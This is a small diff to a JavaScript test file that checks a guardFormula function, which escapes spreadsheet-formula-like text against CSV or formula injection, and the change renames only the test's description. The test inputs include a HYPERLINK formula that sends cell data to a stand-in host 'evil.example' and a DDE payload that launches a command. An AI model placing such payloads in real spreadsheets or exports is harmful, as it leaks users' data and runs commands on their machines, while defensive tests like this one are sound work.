@@ -15,7 +15,7 @@ test.each([
   '\u00a0@A1',
   '=HYPERLINK("https://evil.example?"&A1,"x")',
   '=cmd|" /C calc"!A0',
-])('what begins like a formula is text: %j', (text) => {
+])('text that begins like a formula is guarded: %j', (text) => {
   expect(guardFormula(text)).toBe(`'${text}`)
 })
 
